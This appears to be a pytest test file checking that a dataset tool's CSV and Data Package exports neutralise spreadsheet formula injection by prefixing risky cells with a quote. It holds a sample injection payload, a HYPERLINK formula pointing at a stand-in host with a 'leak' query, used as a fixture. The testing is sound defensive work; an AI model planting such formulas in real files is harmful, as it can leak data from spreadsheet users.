"""A dataset file is anyone's: its text reaches CSV, which spreadsheets open, as text they
show and never as a formula they run; TSV, for grep and awk, keeps it as it is."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from frictionless import Package
from hypothesis import given
from hypothesis import strategies as st

from minefacts.errors import ExitStatus
from minefacts.render.delimited import _csv_row
from minefacts.render.export.datapackage import _cell
from minefacts.render.export.specs import ColumnSpec
from minefacts.render.safe import spreadsheet_text
from tests.conftest import BUNDLED, Invoke

FORMULA = '=HYPERLINK("http://example.invalid/?leak","x")'


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        (FORMULA, "'" + FORMULA),
        ("+81 3 3580 3311", "'+81 3 3580 3311"),
        ("-1 mine", "'-1 mine"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tpadded", "'\tpadded"),
        ("\rreturn", "'\rreturn"),
        ("  =1+1", "'  =1+1"),
        ('"=1+1', "'\"=1+1"),
        ("'=1+1", "''=1+1"),
        (" \t x", "' \t x"),
        ("\u3000\uff1d1", "'\u3000\uff1d1"),
    ],
)
def test_a_text_that_begins_like_a_formula_gets_a_quote(text: str, cell: str) -> None:
    """=, +, -, @ (after any spaces or quotes), or a tab or carriage return before the
    first character, get a single quote put before them."""
    assert spreadsheet_text(text) == cell


@pytest.mark.parametrize(
    "text",
    ["", "Japan", "1997-12-03", "1999/2003", "'s-Hertogenbosch", "a=b", " spaced", "JPY 10"],
)
def test_every_other_text_is_unchanged(text: str) -> None:
    """Words, dates, periods, a name beginning with a quote, an = inside: as they are."""
    assert spreadsheet_text(text) == text


def unmarked(cell: str) -> str:
    """The text of a cell, the mark taken off as the docstring of spreadsheet_text says."""
    if cell.startswith("'") and spreadsheet_text(cell[1:]) != cell[1:]:
        return cell[1:]
    return cell


@given(st.text(alphabet=st.sampled_from("=+-@'\" \t\r\u3000\uff1dax1"), max_size=8))
def test_the_mark_can_be_undone_exactly(text: str) -> None:
    """Whatever the text, taking the mark off gives it back: nothing is lost."""
    assert unmarked(spreadsheet_text(text)) == text


def test_numbers_stay_numbers() -> None:
    """Only text is marked: a negative number is written as a number, in a listing's CSV
    and in a Data Package."""
    assert _csv_row([-5, -2.5, "-5", None]) == [-5, -2.5, "'-5", ""]
    number = ColumnSpec("value", "integer", "A number.", True, lambda item: item)
    text = ColumnSpec("title", "text", "A title.", True, lambda item: item)
    assert (_cell(number, -5), _cell(text, "-5")) == ("-5", "'-5")


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """The bundled dataset with a formula for the first event's title."""
    data: dict[str, Any] = json.loads(BUNDLED.read_text(encoding="utf-8"))
    data["events"][0]["title"] = FORMULA
    path = tmp_path / "hostile.json"
    path.write_text(json.dumps(data), encoding="utf-8")
    return path


def test_a_formula_in_a_dataset_file_is_text_in_the_csv(invoke: Invoke, hostile: Path) -> None:
    """A listing's CSV gives the title with a quote before it, and nothing else changes."""
    result = invoke("--data", str(hostile), "timeline", "-f", "csv")
    assert result.exit_code == ExitStatus.SUCCESS, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    row = next(row for row in rows if row["id"] == "zero-victims-program")
    assert row["title"] == "'" + FORMULA
    starts = [value[:1] for row in rows for value in row.values()]
    assert starts.count("'") == 1


def test_a_formula_in_a_dataset_file_is_kept_as_it_is_in_tsv(invoke: Invoke, hostile: Path) -> None:
    """TSV, for grep and awk, gives the title exactly as the file has it."""
    result = invoke("--data", str(hostile), "timeline", "-f", "tsv")
    line = next(line for line in result.stdout.splitlines() if "zero-victims-program" in line)
    assert f"\t{FORMULA}\t" in line


def test_a_formula_in_a_dataset_file_is_text_in_the_data_package(
    invoke: Invoke, hostile: Path, tmp_path: Path
) -> None:
    """The Data Package's CSV marks it too, says so in its description, and still
    validates; the JSON export keeps the title exact."""
    folder = tmp_path / "package"
    result = invoke("--data", str(hostile), "export", "-f", "datapackage", "-o", str(folder))
    assert result.exit_code == ExitStatus.SUCCESS, result.stderr
    with (folder / "events.csv").open(encoding="utf-8", newline="") as stream:
        rows = {row["id"]: row for row in csv.DictReader(stream)}
    assert rows["zero-victims-program"]["title"] == "'" + FORMULA
    descriptor = json.loads((folder / "datapackage.json").read_text(encoding="utf-8"))
    assert "begins with a single quote (')" in descriptor["description"]
    report = Package(str(folder / "datapackage.json")).validate()
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])[:5]
    exported = invoke("--data", str(hostile), "export").json
    assert exported["events"][0]["title"] == FORMULA
